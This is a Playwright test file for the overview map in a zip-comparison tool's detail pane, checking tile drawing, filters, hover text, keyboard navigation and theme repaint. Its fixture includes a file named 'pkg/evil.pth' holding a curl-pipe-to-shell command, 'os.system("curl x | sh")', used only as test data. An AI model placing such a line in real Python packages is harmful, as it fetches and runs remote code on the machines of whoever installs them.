/**
 * Issue 10, "A picture where people would rather look than read": the overview map in the DetailPane's Map tab. The
 * canvas is drawn, follows the tree's filters, a 40-byte member beside a 300 KB one still has a tile one can click,
 * hover names it, the keyboard steps through the tiles in tree order, and a theme switch repaints it.
 */
import type { Page } from '@playwright/test'
import { dropPair } from './drop-pair'
import { expect, test } from './guarded-test'
import { writeZip } from './zip-writer'

interface HookTile { path: string; status: string; x: number; y: number; w: number; h: number }

const filler = (size: number, seed: string) => seed.repeat(Math.ceil(size / seed.length)).slice(0, size)

function pair(): [Buffer, Buffer] {
  const shared = [
    { name: 'lib/core.so', data: filler(300_000, 'ELF core ') },
    { name: 'pkg/__init__.py', data: filler(2_000, '# init\n') },
    ...Array.from({ length: 40 }, (_, i) => ({ name: `pkg/data/d${i}.txt`, data: filler(1_000 + i * 50, `row ${i}\n`) })),
  ]
  const left = writeZip([...shared, { name: 'pkg/mod.py', data: filler(3_000, 'x = 1\n') }])
  const right = writeZip([...shared, { name: 'pkg/mod.py', data: filler(3_000, 'x = 2\n') }, { name: 'pkg/evil.pth', data: 'import os; os.system("curl x | sh")  #\n' }])
  return [left, right]
}

const map = (page: Page) => page.getByTestId('overview-map')

async function openMap(page: Page) {
  const [left, right] = pair()
  await dropPair(page, left, right, ['left.zip', 'right.zip'])
  await expect(page.getByTestId('verdict')).toHaveAttribute('data-verdict', 'content-differs')
  await page.getByTestId('tab-map').click()
  await expect(map(page)).toBeVisible()
}

/** The drawn tiles, once the map (mounted afresh whenever its tab opens) has measured its box and drawn. */
async function hookTiles(page: Page): Promise<HookTile[]> {
  await expect(map(page)).toHaveAttribute('data-draw-ms', /\d/)
  return JSON.parse((await page.getByTestId('overview-map-tiles').getAttribute('data-tiles')) ?? '[]') as HookTile[]
}

/** Distinct colours on the canvas's backing store (a blank or single-colour canvas has at most one). */
async function colours(page: Page): Promise<number> {
  return map(page).evaluate((canvas: HTMLCanvasElement) => {
    const { data } = canvas.getContext('2d')!.getImageData(0, 0, canvas.width, canvas.height)
    const seen = new Set<number>()
    for (let at = 0; at < data.length; at += 4 * 7) seen.add((data[at] << 16) | (data[at + 1] << 8) | data[at + 2])
    return seen.size
  })
}

async function pixel(page: Page, x: number, y: number): Promise<number[]> {
  return map(page).evaluate((canvas: HTMLCanvasElement, [cssX, cssY]) => {
    const ratio = canvas.width / canvas.getBoundingClientRect().width
    return Array.from(canvas.getContext('2d')!.getImageData(Math.floor(cssX * ratio), Math.floor(cssY * ratio), 1, 1).data)
  }, [x, y])
}

test('the map is drawn, follows the filters, and a click on the 40-byte member\'s tile opens it', async ({ page }) => {
  await openMap(page)
  // "Hide identical" is on by default: the map shows the two changes only.
  await expect(map(page)).toHaveAttribute('data-tile-count', '2')
  await page.getByTestId('hide-identical').uncheck()
  await expect(map(page)).toHaveAttribute('data-tile-count', '44')
  expect(await colours(page)).toBeGreaterThan(3)

  // 40 bytes of about 350 KB would be 0.1 % of the map; it gets the minimum tile and can be clicked.
  const tiles = await hookTiles(page)
  const pth = tiles.find((tile) => tile.path === 'pkg/evil.pth')!
  expect(pth.status).toBe('right-only')
  expect(pth.w * pth.h).toBeGreaterThanOrEqual(15.9)
  await map(page).hover({ position: { x: pth.x + pth.w / 2, y: pth.y + pth.h / 2 } })
  await expect(page.getByTestId('overview-map-tooltip')).toContainText('pkg/evil.pth')
  await expect(page.getByTestId('overview-map-tooltip')).toContainText('Only in the right file')
  await map(page).click({ position: { x: pth.x + pth.w / 2, y: pth.y + pth.h / 2 } })
  await expect(page.locator('#member-title')).toHaveText('pkg/evil.pth')
  await expect(page.getByTestId('tab-member')).toHaveAttribute('aria-selected', 'true')

  // Back on the map, the modified member opens the same way.
  await page.getByTestId('tab-map').click()
  const mod = (await hookTiles(page)).find((tile) => tile.path === 'pkg/mod.py')!
  await map(page).click({ position: { x: mod.x + mod.w / 2, y: mod.y + mod.h / 2 } })
  await expect(page.locator('#member-title')).toHaveText('pkg/mod.py')
})

test('the keyboard steps through the tiles in tree order, and a theme switch repaints the map', async ({ page }) => {
  await openMap(page)
  // The two changes in tree order (pkg/ holds both; by name): evil.pth, then mod.py. Focus lands on the first.
  const spoken = page.getByTestId('overview-map-focus')
  await map(page).focus()
  await expect(spoken).toContainText('pkg/evil.pth')
  await expect(spoken).toContainText('Only in the right file')
  await page.keyboard.press('ArrowRight')
  await expect(spoken).toContainText('pkg/mod.py')
  await page.keyboard.press('ArrowRight')
  await expect(spoken).toContainText('pkg/mod.py')
  await page.keyboard.press('Home')
  await expect(spoken).toContainText('pkg/evil.pth')
  await page.keyboard.press('ArrowDown')
  await page.keyboard.press('Enter')
  await expect(page.locator('#member-title')).toHaveText('pkg/mod.py')

  await page.getByTestId('tab-map').click()
  const mod = (await hookTiles(page)).find((tile) => tile.path === 'pkg/mod.py')!
  const theme = async () => page.evaluate(() => document.documentElement.dataset.theme)
  const before = await pixel(page, mod.x + mod.w / 2, mod.y + mod.h / 2)
  // The theme follows the system by default: a dark system setting turns <html data-theme> dark, and the map repaints.
  expect(await theme()).toBe('light')
  await page.emulateMedia({ colorScheme: 'dark' })
  await expect.poll(theme).toBe('dark')
  await expect.poll(() => pixel(page, mod.x + mod.w / 2, mod.y + mod.h / 2)).not.toEqual(before)
})
